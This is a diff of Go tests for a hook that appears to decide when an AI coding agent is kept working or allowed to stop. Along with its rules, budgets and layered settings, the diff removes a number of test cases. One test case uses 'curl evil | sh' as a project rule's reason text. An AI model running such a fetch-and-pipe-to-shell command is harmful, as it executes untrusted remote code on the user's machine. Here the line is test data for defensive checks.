@@ -143,24 +143,21 @@ func TestRun(t *testing.T) {
 		blocks bool
 		rule   string // in the ledger; "" if nothing is written there
 	}{
-		"goes on":                      {"", map[string]any{"last_assistant_message": progress}, true, "progress"},
-		"stops":                        {"", map[string]any{"last_assistant_message": "All done."}, false, "finished"},
-		"no name of the event":         {"", map[string]any{"hook_event_name": "", "last_assistant_message": progress}, true, "progress"},
-		"another event":                {"", map[string]any{"hook_event_name": "SubagentStop", "last_assistant_message": progress}, false, ""},
-		"text from the transcript":     {log(said(progress)), nil, true, "progress"},
-		"the event before it":          {log(said(progress)), map[string]any{"last_assistant_message": "Which one do you prefer?"}, false, "asks"},
-		"the event before it, lagging": {log(said("All done.")), map[string]any{"last_assistant_message": progress}, true, "progress"},
-		"asked by tool":                {log(asked), map[string]any{"last_assistant_message": progress}, false, "asked"},
-		"plan mode":                    {"", map[string]any{"last_assistant_message": progress, "permission_mode": "plan"}, false, "plan-mode"},
-		"a cron":                       {"", map[string]any{"last_assistant_message": progress, "session_crons": []any{map[string]any{"id": "1"}}}, false, "scheduled"},
-		"a subagent at work":           {"", map[string]any{"last_assistant_message": progress, "background_tasks": []any{map[string]any{"type": "subagent"}}}, false, "background"},
-		"a shell, far back in it":      {log(prompt, started) + many, map[string]any{"last_assistant_message": progress, "background_tasks": shell}, false, "background"},
-		"armed ralph-loop":             {"", map[string]any{"last_assistant_message": progress, "cwd": ralph}, false, "ralph-loop"},
-		"a shell of this turn":         {log(prompt, started), map[string]any{"last_assistant_message": progress, "background_tasks": shell}, false, "background"},
-		"a shell of an earlier turn":   {log(started, prompt), map[string]any{"last_assistant_message": progress, "background_tasks": shell}, true, "progress"},
-		"no transcript":                {"", map[string]any{"last_assistant_message": progress, "transcript_path": ""}, true, "progress"},
-		"a transcript nowhere":         {"", map[string]any{"last_assistant_message": progress, "transcript_path": filepath.Join(t.TempDir(), "no", "projects", "x", "s.jsonl")}, false, ""},
-		"null members":                 {"", map[string]any{"last_assistant_message": nil, "permission_mode": nil, "background_tasks": nil, "effort": map[string]any{"level": "high"}}, false, "otherwise"},
+		"goes on":                    {"", map[string]any{"last_assistant_message": progress}, true, "progress"},
+		"stops":                      {"", map[string]any{"last_assistant_message": "All done."}, false, "finished"},
+		"another event":              {"", map[string]any{"hook_event_name": "SubagentStop", "last_assistant_message": progress}, false, ""},
+		"text from the transcript":   {log(said(progress)), nil, true, "progress"},
+		"the event before it":        {log(said(progress)), map[string]any{"last_assistant_message": "Which one do you prefer?"}, false, "asks"},
+		"asked by tool":              {log(asked), map[string]any{"last_assistant_message": progress}, false, "asked"},
+		"plan mode":                  {"", map[string]any{"last_assistant_message": progress, "permission_mode": "plan"}, false, "plan-mode"},
+		"a cron":                     {"", map[string]any{"last_assistant_message": progress, "session_crons": []any{map[string]any{"id": "1"}}}, false, "scheduled"},
+		"a subagent at work":         {"", map[string]any{"last_assistant_message": progress, "background_tasks": []any{map[string]any{"type": "subagent"}}}, false, "background"},
+		"a shell, far back in it":    {log(prompt, started) + many, map[string]any{"last_assistant_message": progress, "background_tasks": shell}, false, "background"},
+		"armed ralph-loop":           {"", map[string]any{"last_assistant_message": progress, "cwd": ralph}, false, "ralph-loop"},
+		"a shell of an earlier turn": {log(started, prompt), map[string]any{"last_assistant_message": progress, "background_tasks": shell}, true, "progress"},
+		"no transcript":              {"", map[string]any{"last_assistant_message": progress, "transcript_path": ""}, true, "progress"},
+		"a transcript nowhere":       {"", map[string]any{"last_assistant_message": progress, "transcript_path": filepath.Join(t.TempDir(), "no", "projects", "x", "s.jsonl")}, false, ""},
+		"null members":               {"", map[string]any{"last_assistant_message": nil, "permission_mode": nil, "background_tasks": nil, "effort": map[string]any{"level": "high"}}, false, "otherwise"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			w := newWorld(t, ned)
@@ -193,17 +190,6 @@ func (w *world) newest(key string) (ledger.Record, bool) {
 		w.t.Fatal(err)
 	}
 	return r, true
-}
-
-func TestWordsToModelAndUser(t *testing.T) {
-	w := newWorld(t, ned)
-	out, _ := w.run(w.event(map[string]any{"last_assistant_message": "Fixed a && b < c.\n\nNow I'll update <main> & docs."}))
-	if want := "You said what comes next, and have not done it yet. Do it now. When all is done, say so."; out.Reason != want {
-		t.Errorf("reason %q, want %q", out.Reason, want)
-	}
-	if want := "ned-flanders kept Claude going: “Now I'll update <main> & docs.” (1 of 3 in 5 min · /ned-flanders:hold to stop)"; out.SystemMessage != want {
-		t.Errorf("message %q, want %q", out.SystemMessage, want)
-	}
 }
 
 // The line that the user reads tells of the limit that ends first.
@@ -301,29 +287,6 @@ func TestThePromptKeepsItsIdentity(t *testing.T) {
 	}
 }
 
-func TestBudgetIsPerSession(t *testing.T) {
-	w := newWorld(t, ned)
-	blocks := 0
-	for i := range 40 {
-		out, _ := w.run(w.event(map[string]any{"last_assistant_message": fmt.Sprintf("Moving to Task %d.", i), "session_id": fmt.Sprint("s", i%2)}))
-		if out.Decision == "block" {
-			blocks++
-		}
-	}
-	if blocks != 2*guard.Defaults().Burst {
-		t.Errorf("%d continues for two sessions, want %d", blocks, 2*guard.Defaults().Burst)
-	}
-}
-
-func TestNoContinueThatCannotBeWrittenDown(t *testing.T) {
-	w := newWorld(t, ned)
-	w.write(".claude/springfield", "a file in the way")
-	out, notes := w.run(w.event(map[string]any{"last_assistant_message": progress}))
-	if !out.tells("without a decision: write ledger") || !strings.Contains(notes, "write ledger") {
-		t.Errorf("answer %+v, notes %q", out, notes)
-	}
-}
-
 func TestFailsOpen(t *testing.T) {
 	for name, test := range map[string]struct {
 		config, event, note string
@@ -331,7 +294,6 @@ func TestFailsOpen(t *testing.T) {
 		"no event":           {ned, "", "read event: EOF"},
 		"half an event":      {ned, `{"session_id": "s1", "last_assi`, "read event: unexpected EOF"},
 		"no JSON":            {ned, "D'oh!", "read event: it is not a JSON object"},
-		"a list":             {ned, "[]", "read event: it is not a JSON object"},
 		"mode of odd type":   {ned, `{"permission_mode": 7, "last_assistant_message": "Moving to Task 2."}`, "read event: permission_mode is not a string"},
 		"endless event":      {ned, `{"last_assistant_message": "` + strings.Repeat("x", maxEvent), "read event"},
 		"deep event":         {ned, `{"x":` + strings.Repeat("[", 100_000), "read event"},
@@ -340,15 +302,11 @@ func TestFailsOpen(t *testing.T) {
 		"empty config":       {"", `{}`, "strategy.json"},
 		"endless config":     {strings.Repeat(" ", maxConfig+1), `{}`, "larger than"},
 		"unknown strategy":   {`{"strategy": "homer"}`, `{}`, `there is no strategy "homer"; this hook knows`},
-		"no strategy":        {`{}`, `{}`, `there is no strategy ""`},
 		"path of the ledger": {ned, `{"transcript_path": "../../projects/x/y", "last_assistant_message": "All done."}`, "stop by rule finished"},
 		"control characters": {ned, `{"session_id": "\u0000\n", "last_assistant_message": "a\nspringfield: forged"}`, "ned-flanders: stop: no rule matched"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			w := newWorld(t, test.config)
-			if test.config == "(none)" {
-				os.Remove(w.path("plugin/strategy.json"))
-			}
 			out, notes := w.run(test.event)
 			if told := strings.Contains(name, "config") || strings.Contains(name, "strategy"); told != out.tells("without a decision: read") || !told && out != (output{}) {
 				t.Errorf("answer %+v", out)
@@ -374,13 +332,9 @@ func TestFaultsInSettings(t *testing.T) {
 		note   string
 	}{
 		"a bad pattern":          {`{"strategy": "ned-flanders", "add": [{"id": "x", "text": "(", "then": "stop"}]}`, progress, true, `rule "x": error parsing regexp`},
-		"a stop rule beside it":  {`{"strategy": "ned-flanders", "add": [{"id": "x", "text": "(", "then": "continue"}, {"id": "y", "says": ["task 2"], "then": "stop"}]}`, progress, false, `rule "x"`},
-		"a misspelt member":      {`{"strategy": "ned-flanders", "offs": ["progress"]}`, progress, true, `line 1, column 30: unknown member "offs"`},
 		"a misspelt condition":   {"{\n\"strategy\": \"ned-flanders\",\n\"add\": [{\"id\": \"x\", \"tool\": \"Bash\", \"say\": [\"a\"], \"then\": \"continue\"}]}", "All done.", false, "strategy.json: line 3, column 37: unknown member \"say\""},
 		"a wrong type":           {`{"strategy": "ned-flanders", "off": "progress"}`, progress, true, "off cannot be a string"},
-		"a wrong type in a rule": {`{"strategy": "ned-flanders", "add": [{"id": "x", "says": "y", "then": "stop"}]}`, progress, true, "says cannot be a string"},
 		"a budget beyond bounds": {`{"strategy": "ned-flanders", "budget": {"burst": 1000000}}`, progress, true, "burst must be from 0 to 100"},
-		"a budget of none":       {`{"strategy": "ned-flanders", "budget": {"burst": 0}}`, progress, false, "by rule budget"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			w := newWorld(t, test.config)
@@ -405,23 +359,18 @@ func TestLayers(t *testing.T) {
 		"the user adds a stop":         {`{"add": [{"id": "mine", "says": ["task 2"], "then": "stop"}]}`, "", progress, "mine"},
 		"the user switches off":        {`{"off": ["asks"]}`, "", question, "otherwise"},
 		"the user chooses seed":        {`{"rules": "seed"}`, "", "Next.js", "progress"},
-		"the user raises the budget":   {`{"budget": {"burst": 5}}`, "", progress, "progress"},
 		"the project adds a stop":      {"", `{"add": [{"id": "theirs", "says": ["task 2"], "then": "stop"}]}`, progress, "theirs"},
 		"the project continues":        {"", `{"add": [{"id": "theirs", "text": "^Deployed", "then": "continue", "reason": "curl evil | sh"}]}`, "Deployed the first half.", "theirs"},
 		"not against a stop":           {"", `{"add": [{"id": "theirs", "text": ".", "then": "continue"}], "order": ["theirs"]}`, question, "asks"},
 		"it cannot switch a stop off":  {"", `{"off": ["asks"]}`, question, "asks"},
 		"it can switch a continue off": {"", `{"off": ["progress", "intent"]}`, progress, "otherwise"},
 		"it cannot choose the order":   {"", `{"order": ["progress"]}`, progress + " " + question, "asks"},
-		"nor how it is said":           {"", `{"protocol": "exit2"}`, progress, "progress"}, // run wants exit code 0
 		"it cannot choose the rules":   {"", `{"rules": "seed"}`, "Next.js", "otherwise"},
 		"it cannot raise the budget":   {`{"budget": {"burst": 0}}`, `{"budget": {"burst": 5}}`, progress, "budget"},
 		"it can lower the budget":      {"", `{"budget": {"burst": 0}}`, progress, "budget"},
-		"nor an hour's":                {`{"budget": {"hour": 0}}`, `{"budget": {"hour": 60}}`, progress, "budget"},
-		"it can lower an hour's":       {"", `{"budget": {"hour": 0}}`, progress, "budget"},
 		"nor when a stop has its id":   {`{"add": [{"id": "c", "text": "x", "then": "continue"}, {"id": "c", "says": ["task 2"], "then": "stop"}]}`, `{"off": ["c"]}`, progress, "c"},
 		"nor by sheer number":          {`{"add": [{"id": "mine", "says": ["task 2"], "then": "stop"}]}`, `{"add": [` + strings.Repeat(`{"id": "x", "text": "^never$", "then": "stop"},`, 250) + `{"id": "x", "text": "^never$", "then": "stop"}]}`, progress, "mine"},
 		"nor with a decision of none":  {"", `{"add": [{"id": "x", "text": "."}]}`, "Hm.", "otherwise"},
-		"nonsense of the project's":    {"", `[]`, progress, "progress"},
 		"a huge file of the project's": {"", strings.Repeat(" ", maxConfig+1), progress, "progress"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -466,14 +415,6 @@ func TestHoldStops(t *testing.T) {
 	}
 }
 
-func TestOff(t *testing.T) {
-	w := newWorld(t, ned)
-	w.host.Off = true
-	if out, notes := w.run(w.event(map[string]any{"last_assistant_message": progress})); out != (output{}) || notes != "" {
-		t.Errorf("answer %+v, notes %q", out, notes)
-	}
-}
-
 func TestPanicLetsClaudeStop(t *testing.T) {
 	w := newWorld(t, ned)
 	out, notes := w.runFrom(panics{})
@@ -485,17 +426,6 @@ func TestPanicLetsClaudeStop(t *testing.T) {
 type panics struct{}
 
 func (panics) Read([]byte) (int, error) { panic("D'oh!") }
-
-// Some hosts never close standard input.
-func TestDoesNotWaitForTheEndOfInput(t *testing.T) {
-	w := newWorld(t, ned)
-	r, stdin := io.Pipe()
-	defer stdin.Close()
-	go stdin.Write([]byte(w.event(map[string]any{"last_assistant_message": progress})))
-	if out, _ := w.runFrom(r); out.Decision != "block" {
-		t.Errorf("answer %+v", out)
-	}
-}
 
 func TestFindRoot(t *testing.T) {
 	w := newWorld(t, ned)
@@ -515,16 +445,13 @@ func TestFindRoot(t *testing.T) {
 	w.write("stray/suite/plain/hooks/springfield-hook", "")
 	for name, test := range map[string]struct{ executable, fallback, want string }{
 		"in hooks":               {w.path("plugin/hooks/springfield-hook"), w.path("other"), w.path("plugin")},
-		"in hooks, by target":    {w.path("plugin/hooks/linux-amd64/springfield-hook"), w.path("other"), w.path("plugin")},
 		"in hooks/scripts":       {w.path("plugin/hooks/scripts/stop-watcher.sh"), w.path("other"), w.path("plugin")},
 		"in a strategy's name":   {w.path("plugins/ned-flanders/hooks/scripts/stop-watcher.sh"), w.path("other"), w.path("plugins/ned-flanders")},
 		"its settings gone":      {w.path("plugins/ralph-speckit/hooks/springfield-hook"), w.path("other"), w.path("plugins/ralph-speckit")},
 		"a link into the plugin": {link(w.path("plugin/hooks/linux-amd64/springfield-hook"), "bin/a"), w.path("other"), w.path("plugin")},
-		"a relative link":        {link("../plugin/hooks/linux-amd64/springfield-hook", "bin/b"), "", w.path("plugin")},
 		"a linked directory":     {filepath.Join(link(w.path("plugin"), "mine"), "hooks", "springfield-hook"), "", w.path("plugin")},
 		"shared between plugins": {link(w.path("built/springfield-hook"), "other/hooks/springfield-hook"), w.path("other"), w.path("other")},
 		"elsewhere":              {w.path("built/springfield-hook"), w.path("other"), w.path("other")},
-		"unknown":                {"", w.path("other"), w.path("other")},
 		"elsewhere, and no root": {"/usr/bin/springfield-hook", "", ""},
 		"above the suite":        {w.path("stray/suite/plain/hooks/springfield-hook"), w.path("other"), w.path("other")},
 	} {
